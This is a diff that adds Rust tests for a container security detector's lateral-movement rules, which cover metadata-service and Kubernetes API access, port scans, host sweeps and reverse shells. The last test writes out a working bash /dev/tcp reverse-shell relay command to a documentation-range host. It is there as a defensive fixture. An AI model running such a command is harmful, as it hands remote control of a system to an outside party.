@@ -1,1 +1,182 @@
+use crate::container::{Container, ContainerMetadata};
+use crate::detect::Severity;
+use crate::detect::testing::{SECOND, Scene, connect, container, end, scene};
+use crate::event::{Exec, Net, Payload, SocketAddress};
+use std::sync::Arc;
 
+fn first(scene: &mut Scene, payload: Payload) -> Option<(&'static str, Severity)> {
+    scene.inspect(payload).first().map(|finding| (finding.rule.id, finding.severity))
+}
+
+fn peer(slot: u32, address: &str) -> Arc<Container> {
+    let known = ContainerMetadata { addresses: vec![address.parse().unwrap()], ..ContainerMetadata::default() };
+    container(slot, &format!("peer-{slot}"), known)
+}
+
+fn app() -> Scene {
+    let mut scene = scene("acme/app", "/usr/bin/python3");
+    scene.others = vec![peer(2, "172.17.0.3")];
+    scene
+}
+
+fn send(address: &str, port: u16) -> Payload {
+    Payload::Send(Net {
+        local: SocketAddress::default(),
+        remote: end(address, port),
+        protocol: 17,
+        socket_type: 2,
+        backlog: 0,
+    })
+}
+
+#[test]
+fn first_contact_depends_on_what_the_two_share() {
+    let contact = |scene: &mut Scene| first(scene, connect("172.17.0.3", 5432));
+    assert_eq!(contact(&mut app()), Some(("lateral.first_contact", Severity::Medium)));
+    assert_eq!(first(&mut app(), connect("::ffff:172.17.0.3", 5432)), Some(("lateral.first_contact", Severity::Medium)));
+    assert_eq!(first(&mut app(), send("172.17.0.3", 514)), Some(("lateral.first_contact", Severity::Medium)));
+    let mut related = app();
+    related.known.user_networks = vec!["shop".into()];
+    let known = ContainerMetadata {
+        addresses: vec!["172.17.0.3".parse().unwrap()],
+        user_networks: vec!["shop".into()],
+        ..ContainerMetadata::default()
+    };
+    related.others = vec![container(2, "db", known)];
+    assert_eq!(contact(&mut related), Some(("lateral.first_contact", Severity::Low)));
+    let mut complete = app().with_profile("connect: [{cidr: 10.0.0.0/8}]");
+    assert_eq!(contact(&mut complete), Some(("lateral.first_contact", Severity::High)));
+    assert_eq!(contact(&mut app().with_profile("connect: [{cidr: 172.17.0.0/16, port: 5432}]")), None);
+}
+
+#[test]
+fn loopback_itself_resolvers_gateway_and_answers_are_no_contact() {
+    for payload in [
+        connect("127.0.0.1", 5432),
+        connect("::1", 5432),
+        connect("0.0.0.0", 80),
+        connect("172.17.0.2", 80),
+        connect("172.17.0.1", 80),
+        connect("8.8.8.8", 443),
+        send("172.17.0.3", 53),
+        send("172.17.0.3", 40_123),
+        send("239.1.1.1", 1900),
+    ] {
+        assert_eq!(first(&mut app(), payload.clone()), None, "{payload:?}");
+    }
+    let Payload::Send(net) = send("172.17.0.3", 5432) else { unreachable!() };
+    assert_eq!(first(&mut app(), Payload::Connect(net)), None, "a UDP connect() sends nothing");
+}
+
+#[test]
+fn services_that_give_control_need_no_profile() {
+    let cases = [
+        ("169.254.169.254", 80, "lateral.metadata_service"),
+        ("::ffff:169.254.169.254", 80, "lateral.metadata_service"),
+        ("fd00:ec2::254", 80, "lateral.metadata_service"),
+        ("100.100.100.200", 80, "lateral.metadata_service"),
+        ("10.96.0.1", 443, "lateral.kubernetes_api"),
+        ("10.0.0.5", 6443, "lateral.kubernetes_api"),
+        ("10.0.0.5", 10_250, "lateral.kubelet"),
+        ("10.0.0.5", 2379, "lateral.etcd"),
+        ("172.17.0.1", 2375, "lateral.docker_api"),
+    ];
+    for (address, port, rule) in cases {
+        let mut scene = app();
+        scene.host.kubernetes_api = vec!["10.96.0.1:443".parse().unwrap()];
+        assert_eq!(scene.rules(connect(address, port)), [rule], "{address}");
+    }
+    assert_eq!(first(&mut app(), connect("169.254.169.253", 53)), None);
+    assert_eq!(first(&mut app(), connect("10.96.0.1", 443)), None, "not known as an API");
+    let mut allowed = app().with_profile("connect: [{cidr: 169.254.169.254/32, port: 80}]");
+    assert_eq!(first(&mut allowed, connect("169.254.169.254", 80)), None);
+}
+
+#[test]
+fn a_port_scan_is_one_behaviour() {
+    let mut scene = app();
+    let mut found = Vec::new();
+    for port in 1..=30 {
+        scene.now_ns += SECOND / 10;
+        found.extend(scene.inspect(connect("172.17.0.3", port)));
+    }
+    let scans: Vec<_> = found.iter().filter(|finding| finding.rule.id == "lateral.port_scan").collect();
+    assert_eq!(scans.len(), 21);
+    assert!(scans.iter().all(|scan| scan.object == scans[0].object));
+    let contacts = found.iter().filter(|finding| finding.rule.id == "lateral.first_contact");
+    assert_eq!(contacts.count(), 9, "the scan stands for the others");
+}
+
+#[test]
+fn a_sweep_is_one_behaviour_and_internal() {
+    let mut scene = app();
+    scene.others = (2..40).map(|slot| peer(slot, &format!("172.17.0.{slot}"))).collect();
+    scene.known.addresses.clear();
+    let mut contacts = std::collections::BTreeSet::new();
+    let mut sweeps = 0;
+    for host in 2..40 {
+        scene.now_ns += SECOND / 10;
+        for finding in scene.inspect(connect(&format!("172.17.0.{host}"), 6379)) {
+            match finding.rule.id {
+                "lateral.host_sweep" => sweeps += 1,
+                _ => drop(contacts.insert(finding.object)),
+            }
+        }
+    }
+    assert_eq!((sweeps, contacts.len()), (29, 3));
+    let mut crawler = app();
+    for host in 1..40 {
+        assert_eq!(first(&mut crawler, connect(&format!("93.184.216.{host}"), 443)), None);
+    }
+}
+
+#[test]
+fn slow_and_repeated_contacts_are_no_scan() {
+    let mut slow = app();
+    for port in 1..=30 {
+        slow.now_ns += 2 * SECOND;
+        assert!(!slow.rules(connect("10.1.1.1", port)).contains(&"lateral.port_scan"));
+    }
+    let mut pool = app();
+    for _ in 0..200 {
+        pool.now_ns += SECOND / 100;
+        assert!(pool.rules(connect("10.1.1.1", 5432)).is_empty());
+    }
+}
+
+fn shell(exe: &str, stdio: u32, peer: SocketAddress) -> (Scene, Payload) {
+    let scene = scene("acme/app", exe);
+    let exec = Exec { stdio, stdio_peer: peer, ..scene.exec() };
+    (scene, Payload::Exec(exec))
+}
+
+#[test]
+fn a_shell_on_a_socket_is_a_reverse_shell() {
+    let critical = Some(("lateral.reverse_shell", Severity::Critical));
+    for (exe, stdio) in [("/bin/sh", 7), ("/bin/bash", 1), ("/bin/dash", 2)] {
+        let (mut scene, exec) = shell(exe, stdio, end("203.0.113.9", 4444));
+        assert_eq!(first(&mut scene, exec), critical, "{exe}");
+    }
+    let (scene, exec) = shell("/usr/bin/id", 7, end("2001:db8::1", 4444));
+    assert_eq!(first(&mut scene.below(&["/bin/bash"]), exec), critical, "what the shell starts");
+    let (mut scene, exec) = shell("/bin/sh", 1, end("0.0.0.0", 0));
+    assert_eq!(first(&mut scene, exec), None, "FastCGI's listening socket");
+    let (mut scene, exec) = shell("/usr/sbin/in.ftpd", 7, end("203.0.113.9", 4444));
+    assert_eq!(first(&mut scene, exec), None, "inetd's services");
+    let (mut scene, exec) = shell("/bin/sh", 0, SocketAddress::default());
+    assert_eq!(first(&mut scene, exec), None);
+}
+
+#[test]
+fn a_shell_that_hands_itself_over() {
+    let connected = |args: &str| {
+        let mut scene = scene("acme/app", "/bin/bash");
+        scene.exe.args = args.into();
+        first(&mut scene, connect("203.0.113.9", 4444)).map(|(rule, _)| rule)
+    };
+    assert_eq!(connected("bash\0-i\0"), Some("lateral.reverse_shell"));
+    let relayed = "bash\0-c\0exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l >&5; done\0";
+    assert_eq!(connected(relayed), Some("lateral.reverse_shell"));
+    assert_eq!(connected("bash\0/usr/bin/wait-for-it.sh\0db:5432\0"), None);
+    assert_eq!(connected("bash\0-c\0echo > /dev/tcp/db/5432\0"), None);
+}
